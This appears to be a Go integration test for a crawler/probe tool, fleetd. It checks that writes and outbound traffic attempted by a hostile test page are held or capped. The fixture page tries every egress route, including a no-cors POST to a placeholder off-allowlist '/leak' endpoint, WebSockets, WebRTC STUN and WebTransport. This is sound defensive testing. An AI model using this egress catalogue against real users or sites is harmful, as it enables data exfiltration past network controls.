package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/qafleet/fleetd/faultnet"
	"github.com/qafleet/fleetd/fleet"
	"github.com/qafleet/fleetd/trajectory"
)

// writesSite is a platform whose every page's scripts try to write, and to
// leave the allowlist by every route: it counts the writes that reach it
// from the browser (Chromium's user agent; qa_submit's are the tools').
type writesSite struct {
	mu     sync.Mutex
	writes []string // method + " " + URL, as the browser asked for it
}

const writesPage = `<!doctype html><html><head><title>writes</title>
<link rel=preconnect href="http://{OFF}"><link rel=dns-prefetch href="//{OFF}"><link rel=prefetch href="http://{OFF}/pf">
<script type=speculationrules>{"prerender":[{"source":"list","urls":["http://{OFF}/pr"]}]}</script></head><body>
<p>Every route out.</p><iframe src="/form"></iframe>
<script>
(async () => {
  for (const m of ['POST', 'PUT', 'DELETE']) { try { await fetch('/api/w-' + m.toLowerCase(), {method: m, body: m === 'DELETE' ? undefined : 'x'}); } catch (e) {} }
  navigator.sendBeacon('/api/w-beacon', 'x');
  try { new WebSocket(location.origin.replace('http', 'ws') + '/api/w-ws'); } catch (e) {}
  try { new WebSocket('ws://{OFF}/ws'); } catch (e) {}
  new Worker('/worker.js');
  navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {});
  try { new WebTransport('https://{OFF}/wt').ready.catch(() => {}); } catch (e) {}
  try {
    const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:{OFF}'}]});
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
  } catch (e) {}
  fetch('http://{OFF}/leak', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => {});
  try { window.open('http://{OFF}/popup'); } catch (e) {}
})();
</script></body></html>`

func (s *writesSite) handler(off string) http.Handler {
	fill := func(t string) string { return strings.ReplaceAll(t, "{OFF}", off) }
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if (r.Method != http.MethodGet && r.Method != http.MethodHead || r.Header.Get("Upgrade") != "") && strings.Contains(r.UserAgent(), "Chrome") {
			m := r.Method
			if r.Header.Get("Upgrade") != "" {
				m = "WEBSOCKET"
			}
			s.mu.Lock()
			s.writes = append(s.writes, m+" "+r.URL.Path)
			s.mu.Unlock()
		}
		switch {
		case r.URL.Path == "/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch('/api/w-worker', {method: 'POST', body: 'x'}).catch(() => {});`)
		case r.URL.Path == "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch('/api/w-sw', {method: 'POST', body: 'x'}).catch(() => {});`)
		case r.URL.Path == "/form":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<form method=post action="/api/w-form"><input name=a value=1></form><script>document.forms[0].submit()</script>`)
		case strings.HasPrefix(r.URL.Path, "/api/"):
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, `{"ok":true}`)
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, fill(writesPage))
		}
	})
}

// editConfigInPlace rewrites the YAML config at path through edit (a
// fixture's config, whose data dir and keys stay where they are).
func editConfigInPlace(t *testing.T, path string, edit func(cfg map[string]any)) {
	t.Helper()
	b, err := os.ReadFile(editConfig(t, path, edit))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

func (s *writesSite) take() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := s.writes
	s.writes = nil
	return out
}

// TestProbeHoldsPageWrites: fleetd probe with the rendering crawl, against
// a platform whose pages try every write and every route out. At observe
// no write reaches the platform and nothing reaches an address off the
// allowlist, TCP or UDP; every write is held and the run record, fleetd
// runs show and the run's summary say so with method and URL. At exercise
// the page's writes that reach the platform are at most max_writes, and
// each is in the run record as sent.
func TestProbeHoldsPageWrites(t *testing.T) {
	findChromium(t)
	if testing.Short() {
		t.Skip("a devnet, the testbed and Chromium")
	}
	f := newFleetFixture(t, fleet.Observe, nil)
	off := faultnet.ListenOffList(t, "127.0.0.2")
	site := &writesSite{}
	srv := httptest.NewServer(site.handler(off.HostPort()))
	t.Cleanup(srv.Close)
	editConfigInPlace(t, f.config, func(cfg map[string]any) {
		tg := cfg["target"].(map[string]any)
		tg["faces"], tg["docs"], tg["fetch_allow"] = srv.URL+"/u/{name}", []string{srv.URL + "/guide"}, []string{strings.TrimPrefix(srv.URL, "http://")}
		cfg["crawl"] = map[string]any{"engine": "browser", "page_timeout": "6s"}
	})
	probe := func(t *testing.T) *trajectory.Run {
		t.Helper()
		before, _ := filepath.Glob(filepath.Join(f.dataDir, "runs", "*.jsonl"))
		if stdout, stderr, code := run(t, "", "probe", "security", "--config", f.config); code != 0 {
			t.Fatalf("probe security: exit %d\n%s%s", code, stdout, stderr)
		}
		after, _ := filepath.Glob(filepath.Join(f.dataDir, "runs", "*.jsonl"))
		var path string
		for _, p := range after {
			if !slices.Contains(before, p) {
				path = p
			}
		}
		r, err := trajectory.ReadAll(path)
		if err != nil || r.Footer == nil {
			t.Fatalf("the run record %s: %v", path, err)
		}
		time.Sleep(300 * time.Millisecond) // late arrivals land now
		return r
	}
	pageWrites := func(r *trajectory.Run) (sent, held []trajectory.PageWrite) {
		for _, rec := range r.Records {
			if tu, ok := rec.(trajectory.Turn); ok {
				for _, w := range tu.PageWrites {
					if w.Held {
						held = append(held, w)
					} else {
						sent = append(sent, w)
					}
				}
			}
		}
		return sent, held
	}

	t.Run("observe", func(t *testing.T) {
		r := probe(t)
		if got := site.take(); len(got) > 0 {
			t.Errorf("%d writes reached the platform at observe: %q", len(got), got)
		}
		if got := off.Take(); len(got) > 0 {
			t.Errorf("%d arrivals off the allowlist: %q", len(got), got)
		}
		sent, held := pageWrites(r)
		if len(sent) > 0 {
			t.Errorf("page writes sent at observe: %+v", sent)
		}
		for _, want := range []string{"POST /api/w-post", "DELETE /api/w-delete", "POST /api/w-beacon", "POST /api/w-form", "WEBSOCKET /api/w-ws", "POST /api/w-worker"} {
			method, path, _ := strings.Cut(want, " ")
			if !slices.ContainsFunc(held, func(w trajectory.PageWrite) bool {
				return w.Method == method && strings.HasSuffix(w.URL, path) && strings.Contains(w.Reason, "observe")
			}) {
				t.Errorf("the run record holds no %s among %+v", want, held)
			}
		}
		if r.Footer.Totals.HeldWrites != len(held) || !strings.Contains(r.Footer.FinalSummary, "page writes held") {
			t.Errorf("footer: held %d of %d, summary %q", r.Footer.Totals.HeldWrites, len(held), r.Footer.FinalSummary)
		}
		t.Logf("observe: %d page writes held, 0 sent; footer %q", len(held), r.Footer.FinalSummary)
		shown, _, _ := run(t, "", "runs", "show", r.Header.RunID, "--config", f.config)
		if !strings.Contains(shown, "page write HELD POST "+srv.URL+"/api/w-post") || !strings.Contains(shown, "held writes") {
			t.Errorf("fleetd runs show lists no held write:\n%s", shown)
		}
	})

	t.Run("exercise", func(t *testing.T) {
		if _, stderr, code := run(t, "", "dial", "set", "exercise", "--reason", "test", "--config", f.config); code != 0 {
			t.Fatalf("dial set: %s", stderr)
		}
		r := probe(t)
		got := site.take()
		if o := off.Take(); len(o) > 0 {
			t.Errorf("%d arrivals off the allowlist: %q", len(o), o)
		}
		sent, _ := pageWrites(r)
		if max := r.Header.Budget.MaxWrites; len(got) > max || len(sent) > max {
			t.Errorf("%d page writes reached the platform, %d sent, max_writes %d", len(got), len(sent), max)
		}
		if len(got) == 0 {
			t.Error("no page write reached the platform at exercise: the test proves nothing")
		}
		for _, g := range got {
			method, path, _ := strings.Cut(g, " ")
			if !slices.ContainsFunc(sent, func(w trajectory.PageWrite) bool {
				return strings.EqualFold(w.Method, method) && strings.Contains(w.URL, path)
			}) {
				t.Errorf("%s reached the platform and is not in the run record as sent: %+v", g, sent)
			}
		}
		t.Logf("exercise: %d page writes sent, %d reached the platform, %d held, run writes %d of max_writes %d", len(sent), len(got), r.Footer.Totals.HeldWrites, r.Footer.Totals.Writes, r.Header.Budget.MaxWrites)
		if r.Footer.Totals.Writes < len(sent) {
			t.Errorf("footer writes %d < page writes sent %d: not on the run's meter", r.Footer.Totals.Writes, len(sent))
		}
	})
}
